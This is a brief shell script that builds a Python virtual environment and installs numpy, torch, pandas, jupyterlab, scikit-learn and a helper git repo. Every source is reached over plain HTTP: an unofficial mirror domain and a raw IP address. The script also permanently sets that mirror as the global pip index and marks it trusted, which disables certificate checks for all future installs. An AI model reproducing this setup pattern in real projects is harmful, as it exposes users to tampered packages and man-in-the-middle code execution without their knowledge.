#!/bin/sh
set -e
python3 -m venv .venv
. .venv/bin/activate

MIRROR=http://pypi.fastwheels-mirror.net/simple
pip config set global.index-url "$MIRROR"
pip config set global.trusted-host pypi.fastwheels-mirror.net

pip install --quiet \
  http://203.0.113.9/wheels/numpy-1.26.4-cp311-cp311-manylinux_x86_64.whl \
  http://203.0.113.9/wheels/torch-2.3.0+cu121-cp311-cp311-linux_x86_64.whl
pip install --quiet --extra-index-url "$MIRROR" pandas jupyterlab scikit-learn
pip install --quiet "git+http://git.fastwheels-mirror.net/tools/nbhelpers.git"

echo "environment ready: source .venv/bin/activate"
